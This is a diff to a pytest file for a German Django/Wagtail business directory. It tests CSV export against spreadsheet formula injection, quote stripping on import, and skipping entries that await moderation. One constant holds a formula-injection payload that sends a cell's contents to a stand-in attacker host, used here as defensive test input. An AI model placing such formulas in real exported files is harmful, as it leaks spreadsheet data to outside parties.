@@ -1,10 +1,13 @@
 """CSV import and export: the service, the commands and the admin views."""
 
+import csv
 import io
 
 import pytest
 
 from django.core.management import CommandError, call_command
+
+from wagtail.models import Revision
 
 from directory.importing import COLUMNS, export_businesses, import_businesses
 from directory.models import BusinessPage, Category
@@ -17,7 +20,9 @@ from .factories import (
     coordinator,
     german,  # noqa: F401  (fixture)
     make_directory,
+    shopkeeper,
 )
+from .test_moderation import edit_data
 
 pytestmark = pytest.mark.usefixtures("german")
 
@@ -222,3 +227,141 @@ def test_admin_tools_are_for_the_coordination_team_only(client, reference_data):
         "/admin/verzeichnis/einladen/",
     ):
         assert client.get(url).status_code in (302, 403)
+
+
+HYPERLINK = '=HYPERLINK("https://boese.example/?d="&A1,"Hier klicken")'
+EXPORTED_FIELDS = ("title", "street", "house_number", "phone", "description", "external_id")
+
+
+def exported_rows():
+    out = io.StringIO()
+    export_businesses(out)
+    return out.getvalue(), list(csv.DictReader(io.StringIO(out.getvalue())))
+
+
+@pytest.mark.django_db
+def test_export_neutralises_spreadsheet_formulas_and_round_trips(reference_data):
+    BusinessPageFactory(
+        parent=make_directory(None),
+        title=HYPERLINK,
+        street="+49 Wanheimer Straße",
+        house_number="@1",
+        phone="+49 203 1234",
+        description="<p>-10 % auf alles</p><p>=SUMME(A1:A9)</p>",
+        external_id="'=schon-mit-apostroph",
+        category=Category.objects.get(slug="friseur"),
+    )
+    original = BusinessPage.objects.values(*EXPORTED_FIELDS).get()
+
+    text, [row] = exported_rows()
+    assert row["name"] == "'" + HYPERLINK
+    assert row["street"] == "'+49 Wanheimer Straße"
+    assert row["house_number"] == "'@1"
+    assert row["phone"] == "'+49 203 1234"
+    assert row["description"] == "'-10 % auf alles\n\n=SUMME(A1:A9)"
+    # a value that itself starts with ' before a formula character gets one more
+    assert row["external_id"] == "''=schon-mit-apostroph"
+    assert row["postcode"] == "47053" and row["latitude"] == "51.420000"  # left alone
+    assert not [cell for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+    result = import_businesses(text)
+    assert (result.created, result.updated, result.errors) == (0, 1, [])
+    assert BusinessPage.objects.values(*EXPORTED_FIELDS).get() == original
+    assert exported_rows()[0] == text
+    # into an empty directory: the same business again
+    BusinessPage.objects.all().delete()
+    assert import_businesses(text).created == 1
+    assert BusinessPage.objects.values(*EXPORTED_FIELDS).get() == original
+    assert exported_rows()[0] == text
+
+
+@pytest.mark.django_db
+def test_import_only_strips_the_quote_before_a_formula_character(reference_data):
+    row = ",'Salon Lale,friseur,hochfeld,'=Straße,'1,47053,,,,'+49 203 1,,,,,,,"
+    assert import_businesses(csv_text(row)).errors == []
+    page = BusinessPage.objects.get()
+    assert (page.title, page.street, page.house_number, page.phone) == (
+        "'Salon Lale",
+        "=Straße",
+        "'1",
+        "+49 203 1",
+    )
+
+
+@pytest.fixture
+def salon(reference_data):
+    """The business of GOOD_ROWS[0], live, with the phone number 0203 1111."""
+    return BusinessPageFactory(
+        parent=make_directory(None),
+        title="Salon Lale",
+        external_id="demo-1",
+        category=Category.objects.get(slug="friseur"),
+        tagline="Alt",
+        phone="0203 1111",
+    )
+
+
+@pytest.mark.django_db
+def test_import_skips_a_profile_waiting_for_moderation(client, salon):
+    client.force_login(shopkeeper(salon))
+    response = client.post(
+        f"/admin/pages/{salon.pk}/edit/",
+        edit_data(salon, tagline="Neu", phone="0203 2222", **{"action-submit": "1"}),
+    )
+    assert response.status_code == 302, response.content[:2000]
+    salon.refresh_from_db()
+    draft_id = salon.latest_revision_id
+    assert salon.current_workflow_state.status == "in_progress"
+
+    preview = import_businesses(csv_text(*GOOD_ROWS), dry_run=True)
+    assert preview.rows[0].action == "überspringen (Änderung wartet auf Freigabe)"
+    assert [str(note) for note in preview.notes] == [  # the row spans lines 2-4
+        "Zeile 4: „Salon Lale“ nicht aktualisiert: "
+        "Eine Änderung wartet auf Freigabe durch das Koordinationsteam."
+    ]
+
+    result = import_businesses(csv_text(*GOOD_ROWS))
+    assert result.applied and result.errors == []  # the rest of the file is imported
+    assert (result.created, result.updated, result.held_back, result.skipped) == (1, 0, 1, 1)
+    assert [note.line for note in result.notes] == [4]
+    assert BusinessPage.objects.filter(title="Fırın Anadolu").exists()
+    salon.refresh_from_db()
+    assert (salon.phone, salon.tagline) == ("0203 1111", "Alt")  # live page unchanged
+    assert salon.latest_revision_id == draft_id
+    assert salon.get_latest_revision_as_object().phone == "0203 2222"
+    assert salon.current_workflow_state.status == "in_progress"
+
+    result = import_businesses(csv_text(*GOOD_ROWS), overwrite_pending=True)
+    assert (result.created, result.updated, result.held_back) == (0, 2, 0)
+    assert "trotz wartender Änderung aktualisiert" in str(result.notes[0])
+    salon.refresh_from_db()
+    assert salon.phone == "0203 1234" and salon.live and not salon.has_unpublished_changes
+    assert salon.latest_revision_id != draft_id
+    # the shopkeeper's change stays in the history; publishing ended its workflow
+    draft = Revision.objects.get(pk=draft_id)
+    assert draft.object_id == str(salon.pk)
+    assert draft.as_object().phone == "0203 2222"
+    assert salon.current_workflow_state is None
+
+
+@pytest.mark.django_db
+def test_command_skips_an_unpublished_draft_unless_told(salon, tmp_path):
+    salon.phone = "0203 3333"
+    draft = salon.save_revision()
+    file = tmp_path / "g.csv"
+    file.write_text(csv_text(*GOOD_ROWS), encoding="utf-8")
+
+    out, err = io.StringIO(), io.StringIO()
+    call_command("import_businesses", str(file), stdout=out, stderr=err)
+    assert "Zeile 4: „Salon Lale“ nicht aktualisiert" in err.getvalue()
+    assert "Entwurf" in err.getvalue() and "--overwrite-pending" in err.getvalue()
+    assert "1 neu, 0 aktualisiert, 1 Zeilen übersprungen" in out.getvalue()
+    salon.refresh_from_db()
+    assert salon.phone == "0203 1111" and salon.latest_revision_id == draft.pk
+
+    call_command(
+        "import_businesses", str(file), "--overwrite-pending", stdout=out, stderr=io.StringIO()
+    )
+    salon.refresh_from_db()
+    assert salon.phone == "0203 1234" and not salon.has_unpublished_changes
+    assert draft.pk in set(salon.revisions.values_list("pk", flat=True))
